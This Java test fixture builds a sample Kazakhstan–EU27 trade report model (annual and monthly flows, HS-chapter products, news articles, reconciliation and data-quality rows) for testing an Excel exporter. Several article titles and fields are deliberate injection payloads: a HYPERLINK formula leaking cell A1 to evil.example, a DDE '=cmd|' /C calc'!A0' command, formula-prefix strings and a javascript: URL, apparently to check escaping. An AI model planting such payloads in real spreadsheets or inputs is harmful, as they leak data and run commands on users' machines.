package org.partnership.reports.report.excel;

import java.math.BigDecimal;
import java.math.RoundingMode;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;

import org.partnership.reports.period.Period;
import org.partnership.reports.report.ArticleRow;
import org.partnership.reports.report.DataQuality;
import org.partnership.reports.report.DataQuality.RejectRow;
import org.partnership.reports.report.DataQuality.RevisionRow;
import org.partnership.reports.report.EventRow;
import org.partnership.reports.report.Figure;
import org.partnership.reports.report.IndicatorDefinition;
import org.partnership.reports.report.IndicatorRow;
import org.partnership.reports.report.KeyFigures;
import org.partnership.reports.report.PairReport;
import org.partnership.reports.report.PeriodFigures;
import org.partnership.reports.report.ProductRow;
import org.partnership.reports.report.ReconciliationRow;
import org.partnership.reports.report.ReconciliationRow.Verdict;
import org.partnership.reports.report.ReportModel;
import org.partnership.reports.report.RunInfo;
import org.partnership.reports.report.RunInfo.InputFileInfo;
import org.partnership.reports.report.SectionRow;
import org.partnership.reports.report.TopicRow;

/**
 * A realistic report model for KAZ–EU27: Kazakhstan's customs figures (input/trade.csv), 2024 exports
 * 38.6 bn and imports 11.1 bn against a 2023 turnover of 42,514,970,060 (turnover YoY 16.9 %), Q3 2025
 * and Jan–Sep 2025, HS-chapter products, and articles that try to break the workbook.
 */
final class ReportFixtures {

	static final LocalDate RUN_DATE = LocalDate.of(2025, 10, 15);

	static final String FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";

	static final List<String> INJECTION_TITLES = List.of(FORMULA_TITLE, "+7 727 000 00 00 call now", "-2+3 cmd",
			"@SUM(1+1)", "\tTabbed title", "\rCarriage return title");

	static final String JAVASCRIPT_URL = "javascript:alert(1)";

	static final String LONG_TITLE = "Long read: " + "Kazakhstan–EU partnership ".repeat(1_600);

	/** Year, exports, imports (USD); 2023 is the sum of the monthly rows below. */
	private static final long[][] ANNUAL = { { 2015, 22_500_000_000L, 6_076_000_000L },
			{ 2016, 18_000_000_000L, 5_041_000_000L }, { 2017, 23_700_000_000L, 5_193_000_000L },
			{ 2018, 30_238_734_100L, 6_186_344_200L }, { 2019, 24_185_340_489L, 6_221_233_491L },
			{ 2020, 17_653_331_609L, 6_163_312_075L }, { 2021, 23_254_238_516L, 5_655_033_719L },
			{ 2022, 32_404_179_473L, 7_624_549_959L }, { 2023, 32_200_961_055L, 10_314_009_005L },
			{ 2024, 38_600_000_000L, 11_100_000_000L } };

	/** Year, month, exports, imports (USD). */
	private static final long[][] MONTHLY = {
			{ 2023, 1, 2_448_249_705L, 727_492_142L },
			{ 2023, 2, 2_523_645_499L, 783_954_525L },
			{ 2023, 3, 2_712_337_026L, 924_541_604L },
			{ 2023, 4, 2_812_450_759L, 862_610_482L },
			{ 2023, 5, 2_526_628_435L, 925_408_500L },
			{ 2023, 6, 2_624_396_995L, 879_109_539L },
			{ 2023, 7, 2_724_178_580L, 918_502_558L },
			{ 2023, 8, 2_714_486_112L, 872_220_204L },
			{ 2023, 9, 2_562_751_702L, 806_727_040L },
			{ 2023, 10, 2_842_485_810L, 849_274_975L },
			{ 2023, 11, 2_760_502_322L, 874_153_440L },
			{ 2023, 12, 2_948_848_110L, 890_013_996L },
			{ 2024, 1, 2_810_618_918L, 795_239_249L },
			{ 2024, 2, 3_014_584_566L, 753_986_344L },
			{ 2024, 3, 2_972_196_499L, 846_958_830L },
			{ 2024, 4, 3_352_064_289L, 961_213_883L },
			{ 2024, 5, 3_351_356_886L, 951_105_804L },
			{ 2024, 6, 3_236_449_969L, 909_789_540L },
			{ 2024, 7, 3_264_673_942L, 981_141_958L },
			{ 2024, 8, 3_139_186_211L, 964_016_198L },
			{ 2024, 9, 3_503_310_067L, 907_856_073L },
			{ 2024, 10, 3_360_425_908L, 1_010_790_117L },
			{ 2024, 11, 3_079_124_023L, 965_379_030L },
			{ 2024, 12, 3_516_008_722L, 1_052_522_974L },
			{ 2025, 1, 2_658_263_764L, 818_745_736L },
			{ 2025, 2, 2_963_869_353L, 834_012_293L },
			{ 2025, 3, 2_890_982_383L, 882_463_551L },
			{ 2025, 4, 3_373_942_869L, 1_017_760_347L },
			{ 2025, 5, 3_651_952_895L, 1_015_146_628L },
			{ 2025, 6, 3_737_895_959L, 1_023_551_293L },
			{ 2025, 7, 3_531_009_765L, 1_033_820_626L },
			{ 2025, 8, 3_414_109_301L, 1_008_385_617L },
			{ 2025, 9, 3_854_637_125L, 1_083_126_418L } };

	/** Kazakhstan's trade with the world, for the partner share. */
	private static final long[] WORLD_2024 = { 81_674_053_044L, 60_397_969_384L };

	private static final String[][] EXPORT_CHAPTERS = {
			{ "27", "Mineral fuels, mineral oils and products of their distillation" },
			{ "28", "Inorganic chemicals; compounds of precious metals and rare-earth metals" },
			{ "26", "Ores, slag and ash" }, { "74", "Copper and articles thereof" }, { "72", "Iron and steel" },
			{ "71", "Natural or cultured pearls, precious stones and metals" },
			{ "99", "Commodities not elsewhere specified" }, { "10", "Cereals" },
			{ "76", "Aluminium and articles thereof" }, { "79", "Zinc and articles thereof" } };

	private static final long[][] EXPORT_VALUES = { { 25_052_347_701L, 30_339_600_000L },
			{ 1_384_641_325L, 1_775_600_000L }, { 1_159_234_598L, 1_312_400_000L }, { 1_062_631_715L, 1_235_200_000L },
			{ 998_229_793L, 1_080_800_000L }, { 772_823_065L, 810_600_000L }, { 708_421_143L, 810_600_000L },
			{ 418_612_494L, 540_400_000L }, { 354_210_572L, 386_000_000L }, { 289_808_649L, 308_800_000L } };

	private static final String[][] IMPORT_CHAPTERS = {
			{ "84", "Nuclear reactors, boilers, machinery and mechanical appliances" },
			{ "85", "Electrical machinery and equipment" }, { "30", "Pharmaceutical products" },
			{ "87", "Vehicles other than railway or tramway rolling stock" },
			{ "90", "Optical, photographic, measuring and medical instruments" },
			{ "73", "Articles of iron or steel" }, { "39", "Plastics and articles thereof" },
			{ "38", "Miscellaneous chemical products" }, { "33", "Essential oils, perfumery and cosmetics" },
			{ "22", "Beverages, spirits and vinegar" }, { "99", "Commodities not elsewhere specified" } };

	private static final long[][] IMPORT_VALUES = { { 3_352_052_927L, 3_707_400_000L },
			{ 1_423_333_243L, 1_565_100_000L }, { 1_382_077_207L, 1_398_600_000L }, { 1_227_367_072L, 1_365_300_000L },
			{ 701_352_612L, 765_900_000L }, { 577_584_504L, 577_200_000L }, { 505_386_441L, 521_700_000L },
			{ 422_874_369L, 444_000_000L }, { 319_734_279L, 333_000_000L }, { 216_594_189L, 222_000_000L },
			{ 185_652_162L, 199_800_000L } };

	private ReportFixtures() {
	}

	static ReportModel model() {
		return model(articles());
	}

	static ReportModel model(List<ArticleRow> articles) {
		return new ReportModel(run(Locale.ENGLISH), List.of(kazEu()), indicators(), articles, topics(), events(),
				reconciliation(), dataQuality(), definitions());
	}

	static RunInfo run(Locale locale) {
		return new RunInfo(RUN_DATE, locale, "Analytical unit, Department of European Cooperation",
				"Bureau of National Statistics of Kazakhstan (customs statistics); news feeds",
				List.of(new InputFileInfo("trade.csv", 137, 136, 1,
						"9f2c1e0b7a8d4c3e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a"),
						new InputFileInfo("articles.csv", 9, 8, 1,
								"0d1c2b3a4f5e6d7c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4")));
	}

	static PairReport kazEu() {
		List<PeriodFigures> annual = new ArrayList<>();
		for (int i = 0; i < ANNUAL.length; i++) {
			long[] y = ANNUAL[i];
			long[] prev = (i == 0) ? null : ANNUAL[i - 1];
			annual.add(figures(Period.year((int) y[0]), y[1], y[2], prev == null ? null : new long[] { prev[1], prev[2] }));
		}
		Map<Period, long[]> flows = periodFlows();
		List<PeriodFigures> periods = new ArrayList<>(annual);
		flows.forEach((period, values) -> {
			long[] base = flows.get(period.previousYear());
			periods.add(figures(period, values[0], values[1], base));
		});
		Collections.sort(periods, (a, b) -> a.period().compareTo(b.period()));

		PeriodFigures y2024 = annual.get(annual.size() - 1);
		PeriodFigures y2023 = annual.get(annual.size() - 2);
		Period q3 = Period.quarter(2025, 3);
		Period ytd = Period.yearToDate(2025, 9);
		KeyFigures latestYear = keyFigures(y2024.period(), bd(y2024.exports()), bd(y2024.imports()),
				bd(y2023.exports()), bd(y2023.imports()),
				pct(y2024.turnover().longValue(), WORLD_2024[0] + WORLD_2024[1]));
		KeyFigures latestQuarter = keyFigures(q3, flows.get(q3)[0], flows.get(q3)[1], flows.get(q3.previousYear())[0],
				flows.get(q3.previousYear())[1], null);
		KeyFigures yearToDate = keyFigures(ytd, flows.get(ytd)[0], flows.get(ytd)[1],
				flows.get(ytd.previousYear())[0], flows.get(ytd.previousYear())[1], null);
		return new PairReport("KAZ", "EU27", "Kazakhstan", "European Union (27)",
				"EU27: the 27 member states since 1 February 2020, backcast over the whole series", annual, periods,
				latestYear, latestQuarter, yearToDate, products(), sections());
	}

	/** Months, quarters and Jan–Sep of 2023–2025, summed from the monthly rows. */
	private static Map<Period, long[]> periodFlows() {
		Map<Period, long[]> flows = new TreeMap<>();
		for (long[] m : MONTHLY) {
			int year = (int) m[0];
			int month = (int) m[1];
			add(flows, Period.month(year, month), m);
			add(flows, Period.quarter(year, (month + 2) / 3), m);
			if (month <= 9) {
				add(flows, Period.yearToDate(year, 9), m);
			}
		}
		return flows;
	}

	private static void add(Map<Period, long[]> flows, Period period, long[] month) {
		long[] sum = flows.computeIfAbsent(period, p -> new long[2]);
		sum[0] += month[2];
		sum[1] += month[3];
	}

	private static PeriodFigures figures(Period period, long exports, long imports, long[] base) {
		Double exportsYoy = (base == null) ? null : yoy(exports, base[0]);
		Double importsYoy = (base == null) ? null : yoy(imports, base[1]);
		Double turnoverYoy = (base == null) ? null : yoy(exports + imports, base[0] + base[1]);
		return new PeriodFigures(period, true, BigDecimal.valueOf(exports), BigDecimal.valueOf(imports), exportsYoy,
				importsYoy, turnoverYoy);
	}

	private static KeyFigures keyFigures(Period period, long x, long m, long prevX, long prevM, Double sharePct) {
		return new KeyFigures(period, period.previousYear(), true, true, figure(x, prevX), figure(m, prevM),
				figure(x + m, prevX + prevM), figure(x - m, prevX - prevM), pct(x, m), sharePct);
	}

	private static Figure figure(long current, long previous) {
		return new Figure(BigDecimal.valueOf(current), BigDecimal.valueOf(previous), yoy(current, previous));
	}

	private static List<ProductRow> products() {
		List<ProductRow> rows = new ArrayList<>();
		products(rows, "export", EXPORT_CHAPTERS, EXPORT_VALUES, 32_200_961_055L, 38_600_000_000L);
		products(rows, "import", IMPORT_CHAPTERS, IMPORT_VALUES, 10_314_009_005L, 11_100_000_000L);
		return rows;
	}

	private static void products(List<ProductRow> rows, String flow, String[][] chapters, long[][] values,
			long total2023, long total2024) {
		for (int i = 0; i < chapters.length; i++) {
			long v2023 = values[i][0];
			long v2024 = values[i][1];
			rows.add(new ProductRow(Period.year(2024), flow, chapters[i][0], chapters[i][1], i + 1,
					BigDecimal.valueOf(v2024), pct(v2024, total2024), yoy(v2024, v2023),
					round1((v2024 - v2023) * 100.0 / total2023)));
		}
	}

	/** HS sections of the chapters above, in nomenclature order: code, chapters, name, chapters held. */
	private static final String[][] SECTIONS = { { "II", "06–14", "Vegetable products", "10" },
			{ "IV", "16–24", "Prepared foodstuffs; beverages, spirits and vinegar; tobacco", "22" },
			{ "V", "25–27", "Mineral products", "26 27" },
			{ "VI", "28–38", "Products of the chemical or allied industries", "28 30 33 38" },
			{ "VII", "39–40", "Plastics and rubber and articles thereof", "39" },
			{ "XIV", "71", "Pearls, precious stones and metals; imitation jewellery; coin", "71" },
			{ "XV", "72–83", "Base metals and articles of base metal", "72 73 74 76 79" },
			{ "XVI", "84–85", "Machinery and mechanical appliances; electrical equipment", "84 85" },
			{ "XVII", "86–89", "Vehicles, aircraft, vessels and associated transport equipment", "87" },
			{ "XVIII", "90–92", "Optical, photographic, measuring and medical instruments", "90" },
			{ "OTHER", "98–99, other", "Other / not classified", "99" } };

	/** The chapters summed per section, 2024 on 2023, then the total; rounded as the product rows. */
	private static List<SectionRow> sections() {
		List<SectionRow> rows = new ArrayList<>();
		sections(rows, "export", EXPORT_CHAPTERS, EXPORT_VALUES, 32_200_961_055L, 38_600_000_000L);
		sections(rows, "import", IMPORT_CHAPTERS, IMPORT_VALUES, 10_314_009_005L, 11_100_000_000L);
		return rows;
	}

	private static void sections(List<SectionRow> rows, String flow, String[][] chapters, long[][] values,
			long total2023, long total2024) {
		for (String[] section : SECTIONS) {
			long v2023 = 0;
			long v2024 = 0;
			for (int i = 0; i < chapters.length; i++) {
				if (List.of(section[3].split(" ")).contains(chapters[i][0])) {
					v2023 += values[i][0];
					v2024 += values[i][1];
				}
			}
			if (v2023 != 0 || v2024 != 0) {
				rows.add(new SectionRow(Period.year(2024), flow, section[0], section[1], section[2],
						BigDecimal.valueOf(v2024), pct(v2024, total2024), yoy(v2024, v2023),
						round1((v2024 - v2023) * 100.0 / total2023)));
			}
		}
		rows.add(new SectionRow(Period.year(2024), flow, SectionRow.TOTAL, "01–99", "All goods",
				BigDecimal.valueOf(total2024), 100.0, yoy(total2024, total2023), yoy(total2024, total2023)));
	}

	/** Per year: exports, imports, turnover (USD), turnover YoY and coverage ratio (PCT). */
	static List<IndicatorRow> indicators() {
		List<IndicatorRow> rows = new ArrayList<>();
		for (int i = 0; i < ANNUAL.length; i++) {
			Period year = Period.year((int) ANNUAL[i][0]);
			long x = ANNUAL[i][1];
			long m = ANNUAL[i][2];
			rows.add(indicator(year, "EXPORTS", BigDecimal.valueOf(x), "USD"));
			rows.add(indicator(year, "IMPORTS", BigDecimal.valueOf(m), "USD"));
			rows.add(indicator(year, "TURNOVER", BigDecimal.valueOf(x + m), "USD"));
			rows.add(indicator(year, "BALANCE", BigDecimal.valueOf(x - m), "USD"));
			Double turnoverYoy = (i == 0) ? null : yoy(x + m, ANNUAL[i - 1][1] + ANNUAL[i - 1][2]);
			rows.add(indicator(year, "TURNOVER_YOY", (turnoverYoy == null) ? null : BigDecimal.valueOf(turnoverYoy), "PCT"));
			rows.add(indicator(year, "COVERAGE_RATIO", BigDecimal.valueOf(pct(x, m)), "PCT"));
		}
		return rows;
	}

	private static IndicatorRow indicator(Period period, String code, BigDecimal value, String unit) {
		return new IndicatorRow("KAZ", "EU27", period, true, code, value, unit);
	}

	static List<ArticleRow> articles() {
		List<ArticleRow> rows = new ArrayList<>();
		rows.add(article("a-0001", LocalDate.of(2025, 4, 1), "Astana Times",
				"https://astanatimes.com/2025/04/kazakhstan-eu-trade-turnover-reaches-49-7-billion/", "en",
				"Kazakhstan–EU trade turnover reaches $49.7 billion",
				List.of("TURNOVER 49.7 bn USD 2024 +16.9%", "EXPORTS 38.6 bn USD 2024", "IMPORTS 11.1 bn USD 2024")));
		rows.add(article("a-0002", LocalDate.of(2025, 4, 2), "Kazinform",
				"https://www.inform.kz/ru/товарооборот-казахстана-и-ес", "ru",
				"Товарооборот Казахстана и ЕС в 2024 году достиг 49,7 млрд долларов",
				List.of("TURNOVER 49.7 bn USD 2024")));
		rows.add(article("a-0003", LocalDate.of(2025, 4, 3), "Egemen Qazaqstan", "http://egemen.kz/article/qazaqstan-eo",
				"kk", "Қазақстан мен Еуропалық одақ арасындағы тауар айналымы өсті", List.of()));
		int n = 4;
		for (String title : INJECTION_TITLES) {
			rows.add(article(String.format(Locale.ROOT, "a-%04d", n), LocalDate.of(2025, 4, n), "Feed " + n,
					"https://example.org/articles/" + n, "en", title, List.of()));
			n++;
		}
		rows.add(article("a-0010", LocalDate.of(2025, 5, 10), "Aggregator", JAVASCRIPT_URL, "en", "Click for details",
				List.of()));
		rows.add(article("a-0011", LocalDate.of(2025, 5, 11), "Long reads", "https://example.org/long", "en",
				LONG_TITLE, List.of()));
		rows.add(article("a-0012", LocalDate.of(2025, 5, 12), "Wire", null, "en", "No address given", List.of()));
		return rows;
	}

	static ArticleRow article(String id, LocalDate date, String source, String url, String language, String title,
			List<String> figures) {
		return new ArticleRow(id, date, source, url, language, title, "s-" + id.substring(2), List.of("TRADE"),
				List.of("Kazakhstan", "European Union"), List.of("MEET"), figures);
	}

	private static List<TopicRow> topics() {
		return List.of(new TopicRow(Period.quarter(2025, 2), "TRADE", "Trade and investment", 9, 6, 60.0),
				new TopicRow(Period.quarter(2025, 2), "TRANSPORT", "Transport and the Middle Corridor", 3, 2, 20.0));
	}

	private static List<EventRow> events() {
		return List.of(new EventRow(LocalDate.of(2025, 4, 4), "MEET", "040", List.of("EU", "Kazakhstan"), "Samarkand",
				"a-0001", "Astana Times", "First EU–Central Asia summit in Samarkand"));
	}

	static List<ReconciliationRow> reconciliation() {
		return List.of(
				new ReconciliationRow("a-0001", LocalDate.of(2025, 4, 1), "Astana Times",
						"Kazakhstan–EU trade turnover reaches $49.7 billion", "TURNOVER", "LEVEL", "2024", "KAZ-EU27",
						new BigDecimal("49700000000"), "USD", new BigDecimal("49700000000"), 0.0, Verdict.AGREES, null),
				new ReconciliationRow("a-0002", LocalDate.of(2025, 4, 2), "Kazinform", "Экспорт вырос", "EXPORTS",
						"LEVEL", "2024", "KAZ-EU27", new BigDecimal("40100000000"), "USD", new BigDecimal("38600000000"),
						3.9, Verdict.DISAGREES, "quoted 40.1 bn, computed 38.6 bn"),
				new ReconciliationRow("a-0001", LocalDate.of(2025, 4, 1), "Astana Times",
						"Kazakhstan–EU trade turnover reaches $49.7 billion", "TURNOVER_YOY", "CHANGE", "2024",
						"KAZ-EU27", new BigDecimal("16.9"), "PCT", new BigDecimal("16.9"), 0.0, Verdict.AGREES, null));
	}

	static DataQuality dataQuality() {
		return new DataQuality(
				List.of(new RejectRow("trade.csv", 17, "value_usd", "-12a", "not a number"),
						new RejectRow("articles.csv", 230, "url", "=cmd|' /C calc'!A0", "not an http(s) address")),
				List.of("2025-Q3 is preliminary: the bureau revises monthly data for three months"),
				List.of(new RevisionRow("KAZ-EU27 2024 export TOTAL", new BigDecimal("38500000000"),
						new BigDecimal("38600000000"), "stat.gov.kz 2025-02-14", "stat.gov.kz 2025-04-15")));
	}

	private static List<IndicatorDefinition> definitions() {
		return List.of(
				new IndicatorDefinition("TURNOVER", "Trade turnover", "X + M", "USD", "reporter–partner",
						"Bureau of National Statistics"),
				new IndicatorDefinition("COVERAGE_RATIO", "Coverage ratio", "X / M × 100", "PCT", "reporter–partner",
						"Bureau of National Statistics"));
	}

	private static Double yoy(long current, long previous) {
		return round1((current - previous) * 100.0 / previous);
	}

	private static double pct(long part, long whole) {
		return round1(part * 100.0 / whole);
	}

	private static double round1(double value) {
		return BigDecimal.valueOf(value).setScale(1, RoundingMode.HALF_UP).doubleValue();
	}

	private static long bd(BigDecimal value) {
		return value.longValueExact();
	}

}
